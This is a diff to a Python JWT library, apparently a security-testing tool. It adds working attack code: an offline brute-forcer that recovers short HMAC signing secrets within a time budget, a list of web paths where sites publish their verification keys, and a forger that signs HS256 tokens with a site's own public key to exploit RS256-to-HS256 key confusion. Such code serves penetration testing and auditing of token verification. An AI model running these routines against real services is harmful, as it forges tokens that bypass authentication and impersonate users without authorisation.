@@ -10,9 +10,11 @@ from __future__ import annotations
 import base64
 import hashlib
 import hmac
+import itertools
 import json
 import re
 import time
+from collections.abc import Iterator
 from dataclasses import dataclass, field
 from functools import lru_cache
 from importlib import resources
@@ -206,3 +208,137 @@ def lifetime(token: Token) -> float | None:
     iat = token.claims.get("iat")
     start = iat if isinstance(iat, (int, float)) else time.time()
     return float(exp) - float(start)
+
+
+# -- short secrets, brute-forced offline within a time budget -----------------------------------
+BRUTE_BUDGET_S = 8.0  # per token; benchmarks/bench_jwt_crack.py measures the rate
+_DIGITS = "0123456789"
+_LOWER = "abcdefghijklmnopqrstuvwxyz"
+
+
+def short_secrets() -> Iterator[bytes]:
+    """Every all-digit secret of 1-6 characters (PINs, "123456", six-digit numbers), then every
+    lowercase secret of 1-4: 1,586,364 candidates, cheapest and likeliest first."""
+    for alphabet, longest in ((_DIGITS, 6), (_LOWER, 4)):
+        for n in range(1, longest + 1):
+            for combo in itertools.product(alphabet, repeat=n):
+                yield "".join(combo).encode()
+
+
+@dataclass
+class BruteResult:
+    secret: str | None
+    tried: int
+    seconds: float
+    exhausted: bool  # every candidate was tried (a miss then proves the secret is not short)
+
+
+def crack_short(token: Token, budget_s: float = BRUTE_BUDGET_S) -> BruteResult:
+    """Try short_secrets() against an HMAC token until found, exhausted or out of time.
+
+    A tight loop: the HMAC is computed by hand from the padded key (two hashlib calls per
+    candidate, no hmac object), which is about twice as fast as ``hmac.new``.
+    """
+    digest = HMAC_ALGS.get(token.alg.upper())
+    started = time.perf_counter()
+    if digest is None or not token.signature:
+        return BruteResult(None, 0, 0.0, False)
+    try:
+        target = b64url_decode(token.signature)
+    except ValueError:
+        return BruteResult(None, 0, 0.0, False)
+    msg = token.signing_input
+    block = digest().block_size
+    ipad, opad = bytes(x ^ 0x36 for x in range(256)), bytes(x ^ 0x5C for x in range(256))
+    deadline = started + budget_s
+    tried = 0
+    for key in short_secrets():
+        padded = key.ljust(block, b"\0")  # every candidate is shorter than a block
+        inner = digest(padded.translate(ipad))
+        inner.update(msg)
+        if digest(padded.translate(opad) + inner.digest()).digest() == target:
+            return BruteResult(key.decode(), tried + 1, time.perf_counter() - started, False)
+        tried += 1
+        if tried & 0x3FFF == 0 and time.perf_counter() > deadline:
+            return BruteResult(None, tried, time.perf_counter() - started, False)
+    return BruteResult(None, tried, time.perf_counter() - started, True)
+
+
+# -- RS256/ES256 -> HS256 key confusion ------------------------------------------------------------
+# Where apps publish the public key that verifies their tokens.
+PUBLIC_KEY_PATHS = (
+    "/.well-known/jwks.json",
+    "/jwks.json",
+    "/.well-known/openid-configuration",
+    "/jwt.pub",
+    "/public.pem",
+    "/pubkey.pem",
+    "/public_key.pem",
+    "/keys/public.pem",
+    "/.well-known/public.pem",
+    "/api/jwks",
+)
+_PEM = re.compile(
+    r"-----BEGIN (?:RSA )?PUBLIC KEY-----[A-Za-z0-9+/=\s]+-----END (?:RSA )?PUBLIC KEY-----"
+)
+
+
+def public_keys(text: str) -> list[tuple[str, bytes]]:
+    """(label, PEM bytes) for every public key in a PEM file or a JWKS document.
+
+    A verifier that takes the algorithm from the token uses its key *file* as the HMAC secret,
+    so the exact PEM bytes matter: each key is offered as found, with and without a final
+    newline, and (for JWKS) in the two encodings libraries write (SPKI and PKCS#1).
+    """
+    out: list[tuple[str, bytes]] = []
+    for m in _PEM.finditer(text):
+        pem = m.group(0).strip().encode()
+        out += [("PEM", pem + b"\n"), ("PEM", pem)]
+    try:
+        doc = json.loads(text)
+    except ValueError:
+        doc = None
+    keys = doc.get("keys") if isinstance(doc, dict) else None
+    for jwk in keys if isinstance(keys, list) else []:
+        out += _jwk_pems(jwk)
+    return list(dict.fromkeys(out))
+
+
+def _jwk_pems(jwk: Any) -> list[tuple[str, bytes]]:
+    if not isinstance(jwk, dict):
+        return []
+    from cryptography.hazmat.primitives import serialization
+    from cryptography.hazmat.primitives.asymmetric import ec, rsa
+
+    try:
+        if jwk.get("kty") == "RSA":
+            n = int.from_bytes(b64url_decode(str(jwk["n"])), "big")
+            e = int.from_bytes(b64url_decode(str(jwk["e"])), "big")
+            key: Any = rsa.RSAPublicNumbers(e, n).public_key()
+            formats = [
+                serialization.PublicFormat.SubjectPublicKeyInfo,
+                serialization.PublicFormat.PKCS1,
+            ]
+        elif jwk.get("kty") == "EC" and jwk.get("crv") == "P-256":
+            x = int.from_bytes(b64url_decode(str(jwk["x"])), "big")
+            y = int.from_bytes(b64url_decode(str(jwk["y"])), "big")
+            key = ec.EllipticCurvePublicNumbers(x, y, ec.SECP256R1()).public_key()
+            formats = [serialization.PublicFormat.SubjectPublicKeyInfo]
+        else:
+            return []
+    except (KeyError, ValueError, TypeError):
+        return []
+    label = f"JWKS kid {jwk.get('kid')}" if jwk.get("kid") else "JWKS"
+    out = []
+    for fmt in formats:
+        pem = key.public_bytes(serialization.Encoding.PEM, fmt)
+        out += [(label, pem), (label, pem.rstrip(b"\n"))]
+    return out
+
+
+def confusion_token(claims: dict[str, Any], pem: bytes, kid: str | None = None) -> str:
+    """An HS256 token over claims whose HMAC secret is the public key's PEM text."""
+    header: dict[str, Any] = {"alg": "HS256", "typ": "JWT"}
+    if kid:
+        header["kid"] = kid
+    return sign(header, claims, pem)
